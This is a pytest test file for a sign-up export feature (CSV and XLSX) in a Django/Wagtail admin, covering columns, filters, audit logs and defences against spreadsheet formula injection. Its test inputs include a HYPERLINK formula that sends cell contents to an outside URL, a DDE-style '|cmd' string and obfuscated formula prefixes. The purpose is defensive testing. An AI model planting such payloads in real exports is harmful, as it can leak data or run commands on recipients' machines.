"""Taking sign-ups away as a spreadsheet."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from cms.core.spreadsheets import harmless
from home.roles import SIGN_UP_MANAGERS
from programme.models import SignUp
from programme.sign_ups import rights
from tests.factories import GetInvolvedPageFactory, SignUpFactory, user_in

EXPORT = "/admin/programme/signup/export/"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Click")'


@pytest.fixture
def form(home):
    return GetInvolvedPageFactory(parent=home)


@pytest.fixture
def manager(form, client):
    user = user_in(SIGN_UP_MANAGERS)
    client.force_login(user)
    return user


def as_csv(client, query="") -> list[dict]:
    response = client.post(EXPORT, {"query": query, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="sign-ups.csv"'
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text)))


def as_xlsx(client, query="") -> list[dict]:
    response = client.post(EXPORT, {"query": query, "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet for cell in row)
    head, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


BOTH = pytest.mark.parametrize("export", [as_csv, as_xlsx])


@BOTH
def test_there_is_a_column_for_each_question_as_it_was_asked(export, manager, form, client):
    SignUpFactory(page=form, name="Amina", said={"Before": "Yes", "Which": ["Meetings", "Online"]})
    SignUpFactory(page=form, name="Łucja", said={"Since then": "Ja"})
    newest, oldest = export(client)
    assert newest["Name"] == "Łucja"
    assert newest["Since then"] == "Ja"
    assert not newest["Before"]
    assert oldest["Before"] == "Yes"
    assert oldest["Which"] == "Meetings; Online"
    assert not oldest["Since then"]
    assert newest["Status"] == "New"


@BOTH
def test_a_question_may_have_the_name_of_one_of_our_columns(export, manager, form, client):
    SignUpFactory(page=form, said={"Status": "Volunteer", "Owner": "My landlord"})
    response = client.post(EXPORT, {"format": "csv"})
    head = next(csv.reader(StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert head.count("Status") == 2
    assert export(client)[0]["Owner"] == "My landlord"


@BOTH
def test_only_what_the_list_shows_is_taken(export, manager, form, client):
    SignUpFactory(page=form, name="Amina")
    SignUpFactory(page=form, name="Bo", email="", status=SignUp.Status.ACTIVE)
    rights.erase(SignUpFactory(page=form, name="Gone"), rights.BY_STAFF)
    assert [row["Name"] for row in export(client, "status=active&p=7")] == ["Bo"]
    assert [row["Name"] for row in export(client, "q=amina")] == ["Amina"]
    assert len(export(client)) == 2


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+44 7700 900123",
        "-1+1|cmd",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =1+1",
        '"=1+1',
        "'=1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x01=1+1",
        "＝1+1",
        "“ @x",
    ],
)
def test_no_text_begins_a_formula(text):
    assert harmless(text).startswith("'")


@pytest.mark.parametrize("value", ["Amina", "a=b", "3-4 June", "", "Ω", 5, -5, None, True])
def test_what_is_harmless_stays_as_it_is(value):
    assert harmless(value) == value


@BOTH
def test_neither_an_answer_nor_a_name_nor_a_question_is_a_formula(export, manager, form, client):
    SignUpFactory(page=form, name=FORMULA, said={FORMULA: f"  {FORMULA}", "Split": "a;=1+1"})
    manager.first_name = "=1+1"
    manager.save()
    SignUp.objects.update(owner=manager)
    (row,) = export(client)
    assert row["Name"] == f"'{FORMULA}"
    assert row["Owner"].startswith("'=1+1")
    assert row[f"'{FORMULA}"] == f"'  {FORMULA}"


def test_programs_that_split_at_semicolons_find_no_formula_either(manager, form, client):
    SignUpFactory(page=form, said={"Split": 'a;=1+1;"b'})
    response = client.post(EXPORT, {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert '"a;=1+1;""b"' in text


@BOTH
def test_characters_that_no_sheet_can_hold_are_left_out(export, manager, form, client):
    SignUpFactory(page=form, said={"What": "one\x0btwo\x1f"})
    assert export(client)[0]["What"] == "onetwo"


@BOTH
def test_the_log_says_who_took_how_many_and_nothing_of_anybody(export, manager, form, client):
    SignUpFactory(page=form)
    SignUpFactory(page=form, name="Bo", email="bo@example.org")
    export(client, "q=amina@example.org&status=new&created_at_from=2020-01-02")
    entry = ModelLogEntry.objects.get(action="programme.sign_up.exported")
    assert entry.user == manager
    assert entry.data["count"] == 1
    assert entry.data["filters"] == {
        "status": ["new"],
        "created_at": ["2020-01-02", None],
        "words": True,
    }
    assert "amina" not in f"{entry.label}{entry.data}".lower()
    text = client.get("/admin/programme/signup/records/").content.decode()
    assert "Exported 1 sign-ups as" in text


def test_nothing_is_taken_when_nothing_is_found_or_the_filters_are_wrong(manager, form, client):
    SignUpFactory(page=form)
    for data in (
        {"format": "csv", "query": "q=nobody"},
        {"format": "csv", "query": "status=nonsense"},
        {"format": "exe"},
        {},
    ):
        response = client.post(EXPORT, data, follow=True)
        assert "Nothing was found to export." in response.content.decode()
    assert not ModelLogEntry.objects.filter(action="programme.sign_up.exported").exists()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_list_itself_hands_out_no_file(kind, manager, form, client):
    SignUpFactory(page=form)
    response = client.get(f"/admin/programme/signup/?export={kind}")
    assert response["Content-Type"].startswith("text/html")


@BOTH
def test_costs_the_same_for_many_as_for_few(
    export, manager, form, client, django_assert_num_queries
):
    def make(number):
        for _ in range(number):
            SignUpFactory(page=form, owner=user_in(SIGN_UP_MANAGERS) if number < 10 else manager)

    make(5)
    export(client)
    with django_assert_num_queries(12):
        assert len(export(client)) == 5
    make(45)
    with django_assert_num_queries(12):
        assert len(export(client)) == 50
